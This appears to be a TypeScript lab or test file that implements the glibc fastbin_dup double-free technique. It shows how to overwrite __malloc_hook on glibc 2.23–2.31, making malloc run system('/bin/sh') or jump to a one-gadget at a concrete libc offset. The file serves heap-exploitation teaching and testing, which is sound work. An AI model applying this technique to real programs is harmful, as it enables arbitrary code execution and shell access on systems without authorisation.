/**
 * __malloc_hook overwrite by fastbin_dup (glibc 2.23-2.33): a double free makes a fastbin
 * list a -> b -> a; the first malloc of a lets the program write a's fd, pointing it at a fake
 * chunk just below `__malloc_hook` whose size field is the 0x7f byte of a libc pointer stored
 * there. In the 2.31 build (whose layout 2.23 and 2.27 borrow) the pointer is the relocated word
 * 0x30 below the hook, followed by a zero word, so the fake chunk is `&__malloc_hook - 0x33`
 * with size 0x7f (how2heap's `- 0x23` fits other builds' bytes). The malloc
 * after b and a returns `&__malloc_hook - 0x23`; writing through it sets the hook, and the next
 * malloc follows it. On tcache builds the bin is filled first and calloc (which bypasses the tcache before
 * 2.41) does the mallocs.
 */

import assert from "node:assert/strict";
import { type Lab, technique } from "./support.ts";

const REQUEST = 0x68; // a 0x70 chunk: the fake size 0x7f passes fastbin_index == 5

/** Runs the dup; the hook ends up holding `value`. Returns the pointer malloc gave. */
function dupOntoHook(lab: Lab, hook: number, value: number): number {
  const h = lab.heap;
  const take = (n: number) => lab.tcache ? h.calloc(1, n) : h.malloc(n);
  const fillers = lab.tcacheFillers(REQUEST);
  const a = h.malloc(REQUEST), b = h.malloc(REQUEST);
  lab.freeAll(fillers);
  h.free(a);
  h.free(b);
  lab.vulnerability();
  h.free(a); // the double free: only the bin's head is checked
  assert.equal(take(REQUEST), a);
  lab.write(a, hook - 0x33); // a is still in the fastbin: its fd now names the fake chunk
  assert.equal(take(REQUEST), b);
  assert.equal(take(REQUEST), a);
  const fake = take(REQUEST);
  assert.equal(fake, hook - 0x23, "malloc returns the fake chunk over __malloc_hook");
  lab.write(fake + 0x23, value);
  return fake;
}

technique({
  name: "__malloc_hook via fastbin_dup",
  claim: "malloc runs system",
  arches: ["x86_64"],
  outcomes: {
    "2.23": { shell: "/bin/sh", via: "__malloc_hook", in: "malloc" },
    "2.27": { shell: "/bin/sh", via: "__malloc_hook", in: "malloc" },
    "2.31": { shell: "/bin/sh", via: "__malloc_hook", in: "malloc" },
  },
  run(lab: Lab) {
    const base = lab.leakLibcBase();
    const binsh = lab.heap.malloc(0x20);
    lab.writeString(binsh, "/bin/sh");
    const hook = base + lab.libcOffset("__malloc_hook");
    dupOntoHook(lab, hook, base + lab.libcOffset("system"));
    lab.heap.malloc(binsh); // malloc(size) is __malloc_hook(size, caller): system("/bin/sh")
  },
});

technique({
  name: "__malloc_hook via fastbin_dup (a one-gadget)",
  claim: "malloc jumps to the gadget",
  arches: ["x86_64"],
  outcomes: {
    "2.23": { hijack: "__malloc_hook", in: "malloc" },
    "2.27": { hijack: "__malloc_hook", in: "malloc" },
    "2.31": { hijack: "__malloc_hook", in: "malloc" },
  },
  run(lab: Lab) {
    const base = lab.leakLibcBase();
    dupOntoHook(lab, base + lab.libcOffset("__malloc_hook"), base + 0xe6c81);
    lab.heap.malloc(24);
  },
});
